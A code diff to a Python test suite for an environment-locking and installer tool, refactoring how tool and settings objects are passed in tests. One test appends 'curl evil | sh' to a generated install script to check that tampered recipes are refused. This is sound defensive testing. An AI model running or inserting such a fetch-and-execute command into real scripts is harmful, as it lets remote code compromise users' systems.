@@ -31,7 +31,7 @@ from envgen.project import Project
 from envgen.recipe.render import render_recipe
 from envgen.resolve.conda.stage import solve_conda
 
-from tests.support.builders import at, conda_entry, make_lock, make_matrix
+from tests.support.builders import at, bare_at, conda_entry, make_lock, make_matrix, tools_at
 from tests.support.venvs import fresh_venv
 
 HOST = host_platform()
@@ -95,12 +95,13 @@ def install_locked(
     """`lock` written into a project at `root`, then installed from it into `prefix`."""
     project = locked_project(root, lock)
     cache = root / "cache"
-    env = Venv(prefix) if venv else CondaPrefix(prefix, cache)
+    tools = tools_at(cache)
+    env = Venv(prefix, tools) if venv else CondaPrefix(prefix, tools)
     install(
         Request(lock, HOST),
-        IndexSource(project, cache=cache),
+        IndexSource(project, settings=bare_at(cache)),
         env,
-        installer_named(installer, cache),
+        installer_named(installer, tools),
     )
     return project
 
@@ -170,15 +171,15 @@ def test_trusted_hosts_are_those_of_the_indexes_the_entries_came_from(tmp_path: 
     lock = demo_lock(entries, indexes=indexes)
     assert trusted_hosts(lock, entries) == ("triton-ascend.osinfra.cn",)
     assert trusted_hosts(lock, entries[1:]) == ()
-    part = IndexSource(locked_project(tmp_path / "project", lock), cache=tmp_path).pip(
-        lock, HOST, Pip(tmp_path)
+    part = IndexSource(locked_project(tmp_path / "project", lock), settings=bare_at(tmp_path)).pip(
+        lock, HOST, Pip(tools_at(tmp_path))
     )
     assert part is not None and part.trusted == ("triton-ascend.osinfra.cn",)
     python = tmp_path / "bin" / "python"
-    pip = Pip(tmp_path / "cache").command(python, part)
+    pip = Pip(tools_at(tmp_path / "cache")).command(python, part)
     assert pip[pip.index("--trusted-host") + 1] == "triton-ascend.osinfra.cn"
     assert pip[-2:] == ["-r", str(tmp_path / "project" / "locks" / f"demo.{HOST}.requirements.txt")]
-    uv = Uv(tmp_path / "cache").command(python, part)
+    uv = Uv(tools_at(tmp_path / "cache")).command(python, part)
     assert uv[uv.index("--allow-insecure-host") + 1] == "triton-ascend.osinfra.cn"
     assert "--require-hashes" in pip and "--no-deps" in uv
 
@@ -215,9 +216,10 @@ def test_a_hand_edited_recipe_is_refused(tmp_path: Path) -> None:
     project = locked_project(tmp_path / "project", lock)
     recipe = project.install_sh(lock.env)
     recipe.write_text(recipe.read_text() + "curl evil | sh\n")
-    env = Venv(tmp_path / "env")
+    env = Venv(tmp_path / "env", tools_at(tmp_path))
     with pytest.raises(VerificationError, match="differs from the recipe its lock renders"):
-        install(Request(lock, HOST), IndexSource(project, cache=tmp_path), env, Pip(tmp_path))
+        source = IndexSource(project, settings=bare_at(tmp_path))
+        install(Request(lock, HOST), source, env, Pip(tools_at(tmp_path)))
     assert not env.path.exists()
 
 
@@ -231,9 +233,10 @@ def test_a_hand_edited_pylock_is_refused_before_the_env_is_made(
     project = locked_project(tmp_path / "project", lock)
     pylock = project.locks_dir / f"pylock.demo-{HOST}.toml"
     pylock.write_text(pylock.read_text().replace(lock.pip[0].sha256, "0" * 64))
-    env = Venv(tmp_path / "env")
+    env = Venv(tmp_path / "env", tools_at(tmp_path))
     with pytest.raises(VerificationError, match=f"locks/{pylock.name} does not carry") as raised:
-        install(Request(lock, HOST), IndexSource(project, cache=tmp_path), env, Uv(tmp_path))
+        source = IndexSource(project, settings=bare_at(tmp_path))
+        install(Request(lock, HOST), source, env, Uv(tools_at(tmp_path)))
     assert f"alpha: 1.2.0 alpha-1.2.0-py3-none-any.whl, sha256 {'0' * 12} here" in str(raised.value)
     assert not env.path.exists()
 
@@ -323,7 +326,7 @@ def test_a_conda_prefix_has_the_bytecode_of_its_noarch_python_packages_before_an
     prefix = tmp_path / "env"
     with serve_directory(tmp_path / "channel") as channel:
         entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
-        CondaPrefix(prefix, tmp_path / "cache").create(
+        CondaPrefix(prefix, tools_at(tmp_path / "cache")).create(
             demo_lock(conda=entries), HOST, CondaPart(entries)
         )
     pip = prefix / "lib" / "python3.11" / "site-packages" / "pip"
